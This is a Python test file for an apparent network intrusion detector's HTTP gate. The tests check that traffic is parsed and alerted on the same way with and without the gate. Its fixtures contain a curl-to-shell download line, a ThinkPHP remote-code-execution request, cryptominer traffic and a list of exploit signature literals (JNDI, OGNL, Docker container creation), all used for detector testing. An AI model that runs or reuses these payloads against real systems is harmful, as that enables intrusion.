"""The compiled HTTP gate: it frames what no detector wants and hands the rest to the Python parser at a
message boundary, so analyses give the same events with it as without it."""

from __future__ import annotations

import json
import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from minerwatch.capture.writer import TcpConversation
from minerwatch.decode import GateConfig, HttpGate
from minerwatch.decode._httpgate import BYPASS, CONSUMED, HANDOVER, HANDOVER_BEFORE
from minerwatch.detectors.files.http import IMPLANT_CATEGORIES
from minerwatch.detectors.files.magic import signatures
from minerwatch.flows.analyzers import StreamFactory
from minerwatch.flows.http import HttpConsumer
from minerwatch.flows.http_inspection import HttpInspection
from minerwatch.flows.http_interest import HttpInterest
from minerwatch.flows.opening import Opening
from minerwatch.pipeline import Analysis, AnalysisOptions

BINARY = bytes(range(256)) * 8  # 2 KiB, NULs and control bytes: no detector reads it
GET = b"GET /a.jpg HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
OK_BINARY = (
    b"HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\nContent-Length: %d\r\n\r\n" % len(BINARY) + BINARY
)
TEXT_BODY = b"#!/bin/sh\ncurl -s http://198.51.100.7/x.sh | sh\n"
OK_TEXT = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(TEXT_BODY) + TEXT_BODY
CLIENT, SERVER = 1000, 5000  # sequence numbers of the first payload byte of each side


def gate(**interest) -> HttpGate:
    magics = signatures(IMPLANT_CATEGORIES)
    config = GateConfig(text_bodies=True, typed_bodies=True, magics=magics, nul_sample=4096, **interest)
    return HttpGate(config, CLIENT, SERVER - 1)


def feed(g: HttpGate, to_server: bool, seq: int, data: bytes, flags: int = 0x18) -> int:
    return g.feed(to_server, seq, flags, data)


def test_a_boring_exchange_never_leaves_the_gate():
    g = gate()
    assert feed(g, True, CLIENT, GET) == CONSUMED
    assert feed(g, False, SERVER, OK_BINARY[:1460]) == CONSUMED
    assert feed(g, False, SERVER + 1460, OK_BINARY[1460:]) == CONSUMED
    assert feed(g, True, CLIENT + len(GET), GET) == CONSUMED  # keep-alive: the next request too
    assert (g.messages, g.bodies_skipped, g.in_flight()) == (2, 1, 1)


def test_a_text_answer_is_handed_over_with_its_request():
    g = gate()
    feed(g, True, CLIENT, GET)
    assert feed(g, False, SERVER, OK_TEXT) == HANDOVER
    (client_seq, client), (server_seq, server) = g.pending()
    assert (client_seq, client) == (CLIENT, GET)
    assert (server_seq, server) == (SERVER, OK_TEXT)


def test_requests_only_the_python_parser_reads_exactly_are_handed_over():
    for head in (
        b"POST /rpc HTTP/1.1\r\nHost: pool\r\nContent-Length: 2\r\n\r\n{}",
        b"GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost:x\r\n\r\n",  # not `name: value`: head filters could miss a field
        b"GET / HTTP/1.1\nHost: x\n\n",  # bare LFs: the parser splits them its own way
        b"\r\nGET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\n Host: x\r\n\r\n",  # folded line
        b"GET / HTTP/2.0x\r\nHost: x\r\n\r\n",
    ):
        g = gate()
        assert feed(g, True, CLIENT, head) == HANDOVER, head
        assert g.pending()[0] == (CLIENT, head)


def test_declared_headers_statuses_and_filters_hand_over():
    login = GET.replace(b"\r\n\r\n", b"\r\nAuthorization: Basic eDp5\r\n\r\n")
    assert feed(gate(request_headers=[b"authorization"]), True, CLIENT, login) == HANDOVER
    assert feed(gate(request_filter=lambda head: b"/a.jpg" in head), True, CLIENT, GET) == HANDOVER
    assert feed(gate(request_filter=lambda head: False), True, CLIENT, GET) == CONSUMED
    g = gate(statuses=[401])
    feed(g, True, CLIENT, GET)
    assert feed(g, False, SERVER, b"HTTP/1.1 401 No\r\nContent-Length: 0\r\n\r\n") == HANDOVER


def test_responses_the_gate_does_not_frame_are_handed_over():
    for answer in (
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 3\r\n\r\n",
        b"HTTP/1.1 100 Continue\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 1, 1\r\n\r\n",
        b"\x7fELF\x02\x01\x01",  # not even a response
    ):
        g = gate()
        feed(g, True, CLIENT, GET)
        assert feed(g, False, SERVER, answer) == HANDOVER, answer


def test_bodies_with_a_file_signature_or_text_are_handed_over():
    for body in (b"\x7fELF\x02\x01\x01" + bytes(500), b"PK\x03\x04" + bytes(500), b"plain text, no NUL"):
        g = gate()
        feed(g, True, CLIENT, GET)
        head = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body)
        assert feed(g, False, SERVER, head) == CONSUMED  # the head alone: the body decides
        assert feed(g, False, SERVER + len(head), body) == HANDOVER
        assert g.pending()[1] == (SERVER, head + body)


def test_head_204_and_304_answers_have_no_body():
    g = gate()
    head_request = GET.replace(b"GET", b"HEAD", 1)
    feed(g, True, CLIENT, head_request)
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n"
    assert feed(g, False, SERVER, answer) == CONSUMED
    assert g.messages == 2 and g.in_flight() == 0
    feed(g, True, CLIENT + len(head_request), GET)
    assert feed(g, False, SERVER + len(answer), b"HTTP/1.1 304 Not Modified\r\n\r\n") == CONSUMED
    assert g.messages == 4


def test_pipelined_requests_are_answered_in_order():
    g = gate()
    assert feed(g, True, CLIENT, GET + GET) == CONSUMED
    assert feed(g, False, SERVER, OK_BINARY) == CONSUMED
    assert feed(g, False, SERVER + len(OK_BINARY), OK_TEXT) == HANDOVER
    (client_seq, client), (server_seq, server) = g.pending()
    assert (client_seq, client) == (CLIENT + len(GET), GET)  # the first request is answered and gone
    assert (server_seq, server) == (SERVER + len(OK_BINARY), OK_TEXT)


def test_reordering_goes_to_the_python_reassembler_but_holes_in_skipped_bodies_do_not():
    g = gate()
    assert feed(g, True, CLIENT + 10, GET[10:]) == HANDOVER_BEFORE
    g = gate()
    feed(g, True, CLIENT, GET)
    feed(g, False, SERVER, OK_BINARY[:1000])
    assert feed(g, False, SERVER + 1500, OK_BINARY[1500:]) == CONSUMED  # a hole inside the body
    assert feed(g, False, SERVER + 1000, OK_BINARY[1000:1500]) == CONSUMED  # the late part: old news
    assert g.retransmitted_bytes == 500 and g.in_flight() == 0
    assert feed(g, False, SERVER + len(OK_BINARY) + 5, b"HTTP/1.1") == HANDOVER_BEFORE  # a hole in a head


def test_a_handover_inside_a_skipped_body_resumes_after_it():
    g = gate()
    feed(g, True, CLIENT, GET)
    feed(g, False, SERVER, OK_BINARY[:1000])
    post = b"POST /x HTTP/1.1\r\nContent-Length: 0\r\n\r\n"
    assert feed(g, True, CLIENT + len(GET), post) == HANDOVER
    (client_seq, client), (server_seq, server) = g.pending()
    assert (client_seq, client) == (CLIENT + len(GET), post)
    assert (server_seq, server) == (SERVER + len(OK_BINARY), b"")


def test_past_the_depth_the_flow_is_bypassed():
    g = HttpGate(GateConfig(depth=len(GET) * 3), CLIENT, SERVER - 1)
    results = [feed(g, True, CLIENT + i * len(GET), GET) for i in range(4)]
    assert results == [CONSUMED, CONSUMED, CONSUMED, BYPASS]


# ---- whole analyses, with and without the gate ---------------------------------------------------------

GETWORK = b'{"method": "getwork", "params": [], "id": 0}'
WORK = b'{"result": {"data": "00", "target": "ff"}, "error": null, "id": 0}'
EXCHANGES = {
    "boring": (GET, OK_BINARY),
    "text": (GET, OK_TEXT),
    "head": (GET.replace(b"GET", b"HEAD", 1), b"HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n"),
    "not-modified": (GET, b"HTTP/1.1 304 Not Modified\r\nETag: x\r\n\r\n"),
    "exploit": (
        b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
        b"&vars[0]=system&vars[1][]=id HTTP/1.1\r\nHost: victim\r\n\r\n",
        OK_BINARY,
    ),
    "basic-auth": (
        GET.replace(b"\r\n\r\n", b"\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n\r\n"),
        b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n",
    ),
    "getwork": (
        b"POST / HTTP/1.1\r\nHost: pool\r\nUser-Agent: cgminer/4.10.0\r\nContent-Type: application/json\r\n"
        b"Authorization: Basic d2FsbGV0Lncxong=\r\nContent-Length: %d\r\n\r\n%s" % (len(GETWORK), GETWORK),
        b"HTTP/1.1 200 OK\r\nX-Stratum: stratum+tcp://pool:3333\r\nContent-Length: %d\r\n\r\n%s"
        % (len(WORK), WORK),
    ),
    "elf": (GET, b"HTTP/1.1 200 OK\r\nContent-Length: 600\r\n\r\n\x7fELF\x02\x01\x01" + bytes(593)),
    "chunked": (GET, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
    "sloppy": (b"GET /x HTTP/1.1\r\nHost:victim\r\nUser-Agent:  curl/8.0\r\n\r\n", OK_TEXT),
}


def conversation(names: list[str], pipelined: bool, mss: int, seed: int) -> list[tuple[float, bytes]]:
    c = TcpConversation("10.0.0.1", 40000, "10.0.0.2", 80, mss=mss).open()
    pairs = [EXCHANGES[name] for name in names]
    if pipelined:
        c.send(True, b"".join(request for request, _ in pairs))
        c.send(False, b"".join(answer for _, answer in pairs))
    else:
        for request, answer in pairs:
            c.send(True, request)
            c.send(False, answer)
    packets = c.close().packets
    rng = random.Random(seed)
    for _ in range(rng.randrange(3)):  # swap neighbours: reordering, as captures on busy links show
        i = rng.randrange(3, len(packets) - 4)
        packets[i], packets[i + 1] = packets[i + 1], packets[i]
    return packets


def analyse(path, tmp_path, gate_on: bool) -> tuple[list[str], int]:
    events: list[dict] = []
    options = AnalysisOptions(
        record_discovered=False, intel_db=str(tmp_path / "intel.sqlite"), http_gate=gate_on
    )
    analysis = Analysis([events.append], options)
    analysis.feed_file(path)
    analysis.finish()
    stats = next(e for e in events if e["event_type"] == "stats")["stats"]
    kept = [json.dumps(e, sort_keys=True, default=str) for e in events if e["event_type"] != "stats"]
    return kept, stats["http"]["messages"]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(st.sampled_from(sorted(EXCHANGES)), min_size=1, max_size=5),
    pipelined=st.booleans(),
    mss=st.sampled_from([7, 100, 536, 1460]),
    seed=st.integers(0, 1000),
)
def test_analyses_are_the_same_with_and_without_the_gate(
    write_capture, tmp_path, names, pipelined, mss, seed
):
    path = write_capture(conversation(names, pipelined, mss, seed))
    assert analyse(path, tmp_path, gate_on=True) == analyse(path, tmp_path, gate_on=False)


def test_the_gate_keeps_boring_exchanges_out_of_python_and_hands_over_the_rest(write_capture, tmp_path):
    path = write_capture(conversation(["boring", "boring", "exploit", "boring"], False, 1460, 0))
    events: list[dict] = []
    options = AnalysisOptions(record_discovered=False, intel_db=str(tmp_path / "intel.sqlite"))
    analysis = Analysis([events.append], options)
    analysis.feed_file(path)
    analysis.finish()
    http = next(e for e in events if e["event_type"] == "stats")["stats"]["http"]
    assert (http["flows_gated"], http["handovers"], http["messages"]) == (1, 1, 8)
    alerts = [e["alert"]["signature"] for e in events if e["event_type"] == "alert"]
    assert any("ThinkPHP" in name for name in alerts)


def test_the_engine_gates_first_requests_itself_only_when_the_http_factory_alone_takes_them(tmp_path):
    def options(**more) -> AnalysisOptions:
        return AnalysisOptions(record_discovered=False, intel_db=str(tmp_path / "intel.sqlite"), **more)

    assert Analysis([], options()).engine.first_request_gate is not None
    assert Analysis([], options(http_gate=False)).engine.first_request_gate is None
    analysis = Analysis([], options())
    other = StreamFactory(lambda info, first, to_server: None, Opening.HTTP)
    analysis.inspector.factories_by_opening[Opening.HTTP].insert(0, other)
    assert analysis.inspector.engine_gate() == (None, ())  # another factory must be asked: Python's path


def test_a_file_starting_like_a_request_still_reaches_the_ftp_data_analyser(tmp_path):
    """While a data connection is expected, first payloads go to Python, whatever they look like."""
    from tests.detectors.test_files_carving import ftp_session, run

    upload = b"GET /index.html HTTP/1.1\r\nHost: example.com\r\n\r\n" + BINARY
    events = run(tmp_path, *ftp_session(upload, command=b"STOR"))  # passive: the client sends it
    [file] = [e for e in events if e["event_type"] == "file"]
    assert file["file"]["size"] == len(upload) and file["ftp"]["command"] == "STOR"


LITERAL_PARTS = [
    b"invokefunction",
    b"${jndi:",
    b"/script",
    b"ognl",
    b"#cmd",
    b"/containers/create",
    b"GETRUNTIME",
]


@settings(max_examples=300, deadline=None)
@given(
    parts=st.lists(
        st.one_of(
            st.sampled_from(LITERAL_PARTS).map(lambda b: b[: len(b) - 1]),  # cut short: must not match
            st.sampled_from(LITERAL_PARTS).flatmap(
                lambda b: st.lists(st.booleans(), min_size=len(b), max_size=len(b)).map(
                    lambda ups: bytes(
                        c - 32 if up and 97 <= c <= 122 else c for c, up in zip(b, ups, strict=True)
                    )
                )
            ),
            st.binary(max_size=12).filter(lambda b: b"%" not in b),
            st.sampled_from([b"GET /index.html HTTP/1.1\r\n", b"Host: example.com\r\n", b"\r\n", b"%41"]),
        ),
        max_size=8,
    )
)
def test_the_literal_screen_never_hides_a_head_the_exploit_filter_wants(parts):
    """The gate calls the exploit rules' head filter only on heads its C screen lets through: every head
    the filter accepts must pass the screen (a '%' always does: the filter decodes it)."""
    from minerwatch.decode import LiteralScreen
    from minerwatch.detectors.exploits.detector import rule_set

    rules = rule_set(())
    head = b"".join(parts)
    screen = LiteralScreen(rules.head_literals(True))
    if rules.head_filter(True)(head):
        assert not screen.screens_out(head)
    if any(p.lower() in head.lower() for p in LITERAL_PARTS if p.lower() in rules.head_literals(True)):
        assert not screen.screens_out(head)


def test_a_gated_connection_evicted_from_a_full_table_counts_as_cut_short(write_capture, tmp_path):
    """Gated by the engine (default detectors) or by the inspector (an undeclared factory keeps the
    engine from gating), the connection is counted the same when the flow table evicts it."""
    from minerwatch.capture.writer import frame, tcp_segment

    web = TcpConversation("10.0.0.9", 51000, "203.0.113.5", 80).open().send(True, GET)
    scan = [
        frame("10.0.0.66", f"10.2.0.{i + 1}", 6, tcp_segment(40000 + i, 22, 1, 0, 0x02)) for i in range(30)
    ]
    start = web.packets[-1][0] + 1
    path = write_capture(web.packets + [(start + i / 100, f) for i, f in enumerate(scan)])
    for engine_gates in (True, False):
        events: list[dict] = []
        options = AnalysisOptions(
            record_discovered=False, intel_db=str(tmp_path / "intel.sqlite"), max_flows=10
        )
        analysis = Analysis([events.append], options)
        if not engine_gates:
            analysis.engine.first_request_gate = None
        analysis.feed_file(path)
        analysis.finish()
        stats = events[-1]["stats"]
        assert stats["http"]["flows_gated"] == 1 and stats["http"]["flows"] == 1
        assert stats["inspection"]["flows_evicted_in_analysis"] == 1


class Quiet(HttpConsumer):
    """A consumer that acts on nothing the gate does not hand over anyway."""

    interest = HttpInterest()

    def on_http(self, flow, message) -> None:
        pass


class Undeclared:
    """A consumer written without a declared interest (the contract's type check catches this in typed
    code; the analysis must refuse it at run time too)."""

    def on_http(self, flow, message) -> None:
        pass


def test_a_consumer_without_a_declared_interest_is_refused_not_a_gate_switched_off() -> None:
    with pytest.raises(TypeError, match="Undeclared declares no interest"):
        HttpInspection([Quiet(), Undeclared()], 1 << 18)  # type: ignore[list-item]  # the case tested
    assert HttpInspection([Quiet()], 1 << 18).config is not None


def test_only_a_declared_interest_in_every_message_turns_the_gate_off(tmp_path) -> None:
    everything = Quiet()
    everything.interest = HttpInterest(every_message=True)
    assert HttpInspection([Quiet(), everything], 1 << 18).config is None
    assert HttpInspection([Quiet()], 1 << 18, gate=False).config is None
    # --carve-all is such a declaration: the default run keeps the gate, carving everything does not.
    from minerwatch.detectors.files import FileOptions

    db = str(tmp_path / "intel.sqlite")
    assert Analysis([], AnalysisOptions(intel_db=db)).http.config is not None
    carve_all = AnalysisOptions(intel_db=db, detector_options={"carving": FileOptions(carve_all=True)})
    assert Analysis([], carve_all).http.config is None
